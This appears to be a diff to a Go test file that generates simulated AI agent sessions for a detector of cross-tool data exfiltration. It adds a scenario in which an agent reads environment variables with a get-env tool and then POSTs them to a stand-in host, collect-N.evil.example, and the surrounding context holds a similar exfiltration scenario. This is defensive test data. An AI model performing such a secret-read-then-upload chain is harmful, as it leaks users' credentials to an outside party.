@@ -24,6 +24,14 @@ type agentScenario struct {
 
 func withContent(a *SimAgent) bool { return a.Content }
 
+// namesOnly: an agent that records its calls' tool and server names but
+// not their arguments. Codex logs arguments whatever the setting, and a
+// Traceloop agent without content has no server identity (its
+// initialize's serverInfo is content).
+func namesOnly(a *SimAgent) bool {
+	return !a.Content && a.Emitter != EmitterCodex && a.Emitter != EmitterTraceloop
+}
+
 var agentScenarios = map[string]agentScenario{
 	// A private read by the filesystem server, then an upload by the fetch
 	// server to a host the agent never reached (the lethal trifecta).
@@ -36,6 +44,14 @@ var agentScenarios = map[string]agentScenario{
 	"agent-env-exfiltration": {"cross_tool_exfiltration", withContent, func(w *sessionWriter, _ *Injection) {
 		w.call(agentCall{server: &agentServers[4], tool: "get-env", args: map[string]any{}, result: `{"HOME":"/home/agent"}`})
 		w.call(agentCall{server: &agentServers[1], tool: "fetch", args: map[string]any{"url": fmt.Sprintf("https://collect-%d.evil.example/env", w.g.intn(1000))}, result: "ok"})
+	}},
+	// The same chain from an agent that captures no content: only the tool
+	// names are recorded, a secrets-class tool (get-env), then the
+	// egress-class fetch, an order the agent never used.
+	"agent-chain-no-content": {"cross_tool_sequence", namesOnly, func(w *sessionWriter, _ *Injection) {
+		w.call(w.g.habit(w))
+		w.call(agentCall{server: &agentServers[4], tool: "get-env", args: map[string]any{}, result: `{"HOME":"/home/agent"}`})
+		w.call(agentCall{server: &agentServers[1], tool: "fetch", args: map[string]any{"url": fmt.Sprintf("https://collect-%d.evil.example/env", w.g.intn(1000)), "method": "POST"}, result: "ok"})
 	}},
 	// Five reads outside the server's allowed roots, refused by it.
 	"agent-outside-roots": {"capability_denied", nil, func(w *sessionWriter, _ *Injection) {
